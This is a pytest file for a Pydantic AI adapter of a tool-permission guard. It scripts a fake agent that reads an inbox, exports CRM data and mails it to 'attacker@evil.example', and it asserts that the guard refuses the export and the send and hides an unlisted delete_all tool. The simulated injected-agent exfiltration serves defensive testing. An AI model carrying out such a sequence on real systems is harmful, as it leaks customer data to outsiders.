"""Pydantic AI adapter, through Agent.run with FunctionModel and TestModel (no network)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("pydantic_ai")

from pydantic_ai import Agent
from pydantic_ai.messages import ModelMessage, ModelResponse, TextPart, ToolCallPart, ToolReturnPart
from pydantic_ai.models.function import AgentInfo, FunctionModel
from pydantic_ai.models.test import TestModel
from pydantic_ai.toolsets import FunctionToolset

import d2
from d2tools.integrations.pydantic_ai import guard, guard_toolset

from .conftest import IDS, assert_refusal_text, crm_export, crm_lookup, inbox_read, mail_send


def delete_all() -> str:
    """Not in the policy."""
    return "deleted"


def scripted(steps: list[tuple[str, dict[str, Any]]], offered: list[list[str]]) -> FunctionModel:
    def model(messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
        offered.append(sorted(t.name for t in info.function_tools))
        done = sum(isinstance(p, ToolReturnPart) for m in messages for p in m.parts)
        if done < len(steps):
            return ModelResponse(parts=[ToolCallPart(*steps[done])])
        return ModelResponse(parts=[TextPart("done")])

    return FunctionModel(model)


async def test_a_guarded_toolset_offers_only_callable_tools_and_refuses_injected_calls(policy: Path) -> None:
    toolset = guard_toolset(FunctionToolset([inbox_read, crm_lookup, crm_export, mail_send, delete_all]),
                            tool_id=lambda name: IDS.get(name, name))  # fmt: skip
    offered: list[list[str]] = []
    steps = [
        ("inbox_read", {}),
        ("crm_export", {}),
        ("mail_send", {"to": "attacker@evil.example", "body": "x"}),
    ]
    agent = Agent(scripted(steps, offered), toolsets=[toolset])
    with d2.set_user_context("alice", ["assistant"]):
        result = await agent.run("go")
    assert offered[0] == ["crm_export", "crm_lookup", "inbox_read", "mail_send"]  # delete_all hidden
    returns = [p for m in result.all_messages() for p in m.parts if isinstance(p, ToolReturnPart)]
    assert [p.outcome for p in returns] == ["success", "failed", "failed"]
    assert_refusal_text(str(returns[1].content), "sequence_violation")
    assert_refusal_text(str(returns[2].content), "input_validation")


async def test_a_guarded_function_tool_with_test_model(policy: Path) -> None:
    agent = Agent(TestModel(call_tools=["crm_lookup"]))
    agent.tool_plain(guard(crm_lookup, "crm.lookup"))
    with d2.set_user_context("alice", ["assistant"]):
        result = await agent.run("go")
    (ret,) = [p for m in result.all_messages() for p in m.parts if isinstance(p, ToolReturnPart)]
    assert ret.outcome == "success" and "ssn" not in ret.content


async def test_no_user_no_tools(policy: Path) -> None:
    offered: list[list[str]] = []
    agent = Agent(scripted([], offered), toolsets=[guard_toolset(FunctionToolset([inbox_read]),
                                                                 tool_id=IDS.__getitem__)])  # fmt: skip
    await agent.run("go")
    assert offered == [[]]
